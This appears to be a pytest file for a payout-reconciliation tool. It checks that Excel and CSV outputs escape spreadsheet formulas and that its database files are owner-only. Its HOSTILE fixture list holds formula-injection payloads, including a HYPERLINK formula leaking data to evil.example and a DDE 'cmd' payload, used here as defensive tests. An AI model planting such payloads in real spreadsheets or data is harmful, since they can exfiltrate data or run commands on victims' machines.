"""What payrecon writes is safe to open: no formula made from data, in Excel or in any CSV.

Hostile text comes from the ledger (a status typed as ``=HYPERLINK(...)``) and from the platform
(a failure message). The workbook is read back with openpyxl and must hold no formula cell; every
CSV cell is read raw and must not start with a formula character unless it is a plain number or
carries OWASP's quote; payrecon's own readers give back the original text, ids and money exact.
"""

from __future__ import annotations

import csv
import os
import stat
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from payrecon.cellsafe import TRIGGERS, escape_cell, escape_text, unescape_cell, unescape_text
from payrecon.client.ids import read_ids
from payrecon.client.records import FetchOutcome, PayoutDetail
from payrecon.core import reconcile
from payrecon.csvout import unescape_cell as csvout_unescape_cell
from payrecon.ledger import read_ledger
from payrecon.statuses import read_statuses, statuses_frame, write_statuses
from payrecon.store import Store

DATA = Path(__file__).resolve().parent.parent / "data"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def _detail(pid: str, status: str, message: str) -> PayoutDetail:
    raw = {
        "paymentRequested": {"money": {"amount": Decimal("12.50"), "currencyCode": "EUR"}},
        "process": {
            "status": status,
            "createdAt": "2026-10-28T10:00:00.000Z",
            "isTest": False,
            "failureReasons": {
                "failedAt": "2026-10-28T10:01:00.000Z",
                "failureReasonCode": "SYSTEM",
                "message": message,
            },
        },
        "fee": {"amount": Decimal("0.25"), "currencyCode": "EUR"},
        "paymentMethodResponse": {"idPayout": pid, "paymentMethodCode": "BANK_TRANSFER"},
    }
    return PayoutDetail.from_json(pid, raw)


@pytest.fixture
def hostile(tmp_path: Path) -> tuple[pd.DataFrame, pd.DataFrame]:
    """A ledger whose status cells are formulas, and statuses whose messages are."""
    ids = [f"PO-X-{n}" for n in range(len(HOSTILE))] + ["-12", "-12_a"]
    lines = ["Booking date;Merchant Order ID;Description;Amount;Currency;Fee;State"]
    for n, pid in enumerate(ids):
        state = HOSTILE[n % len(HOSTILE)].replace('"', '""')
        lines.append(f'28.10.2026;{pid};x;-12,50;EUR;-0,25;"{state}"')
    ledger_path = tmp_path / "ledger.csv"
    ledger_path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    ledger = read_ledger(ledger_path, DATA / "mapping.toml")
    outcomes = [
        FetchOutcome(pid, _detail(pid, "FAILED", HOSTILE[n % len(HOSTILE)]), 200)
        for n, pid in enumerate(ids)
    ]
    return ledger, statuses_frame(outcomes)


def _raw_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _is_plain_number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return text.lstrip("+-").replace(".", "", 1).isdigit()


def _assert_safe(path: Path) -> int:
    """Every cell of a CSV either starts harmlessly, is a plain number, or is quoted."""
    quoted = 0
    for row in _raw_cells(path)[1:]:
        for cell in row:
            if cell[:1] in TRIGGERS:
                assert _is_plain_number(cell), f"{path.name}: unsafe cell {cell!r}"
            quoted += cell.startswith("'")
    return quoted


def test_report_xlsx_holds_no_formula_cell(
    hostile: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path
) -> None:
    rec = reconcile(*hostile, ledger_source='=HYPERLINK("http://evil")')
    path = rec.to_excel(tmp_path / "report.xlsx")
    book = openpyxl.load_workbook(path)
    seen: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    assert HOSTILE[0] in seen  # the text is there, as text
    assert '=HYPERLINK("http://evil")' in seen  # the About sheet too


def test_csv_outputs_are_quoted_and_read_back_exactly(
    hostile: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path
) -> None:
    ledger, statuses = hostile
    rec = reconcile(ledger, statuses)
    files = rec.to_csv(tmp_path / "out")
    for name in ("rows", "exceptions"):
        assert _assert_safe(files[name]) > 0
    _assert_safe(files["summary"])
    rows = _raw_cells(files["rows"])
    header = rows[0]
    amount = [r[header.index("ledger_amount")] for r in rows[1:]]
    assert set(amount) == {"-12.50"} or set(amount) == {"12.50"}  # a number, never quoted
    ids = [r[header.index("id_payout")] for r in rows[1:]]
    assert "-12" in ids and "'-12_a" in ids  # a plain number stays; other text is quoted
    status = [unescape_cell(r[header.index("ledger_status")]) for r in rows[1:]]
    assert set(status) >= {h for h in HOSTILE if h not in ("\t=1+1", "\r=1+1")}
    # payrecon's own ids reader reads rows.csv back as the ids it holds
    assert read_ids(files["rows"]) == rec.rows["id_payout"].tolist()


def test_statuses_csv_is_quoted_and_round_trips(
    hostile: tuple[pd.DataFrame, pd.DataFrame], tmp_path: Path
) -> None:
    _ledger, statuses = hostile
    path = tmp_path / "statuses.csv"
    write_statuses(statuses, path)
    assert _assert_safe(path) >= len(HOSTILE)
    back = read_statuses(path)
    assert back["failure_message"].tolist() == statuses["failure_message"].tolist()
    assert back["id_payout"].tolist() == statuses["id_payout"].tolist()
    assert back["amount"].tolist() == [Decimal("12.50")] * len(statuses)
    assert read_ids(path) == statuses["id_payout"].tolist()


cells = st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a"]))


@given(st.lists(st.one_of(st.none(), cells), max_size=8))
def test_escaping_is_undone_exactly_and_leaves_nothing_a_formula(values: list[str | None]) -> None:
    arr = pa.array(values, pa.large_string())
    escaped = escape_text(arr)
    assert escaped.to_pylist() == [None if v is None else escape_cell(v) for v in values]
    assert unescape_text(escaped).to_pylist() == values
    for v in values:
        if v is None:
            continue
        e = escape_cell(v)
        assert csvout_unescape_cell(e) == v
        if e[:1] in TRIGGERS:
            assert _is_plain_number(e)


def test_the_store_and_its_log_files_are_readable_by_the_owner_only(tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        with Store(tmp_path / "s.db", base_url="http://x", merchant_code="M") as store:
            store.register(["PO-1"], "imported")
            files = [p for p in tmp_path.iterdir() if p.name.startswith("s.db")]
            assert {p.name for p in files} >= {"s.db", "s.db-wal", "s.db-shm"}
            for p in files:
                assert stat.S_IMODE(p.stat().st_mode) == 0o600, p.name
    finally:
        os.umask(old)
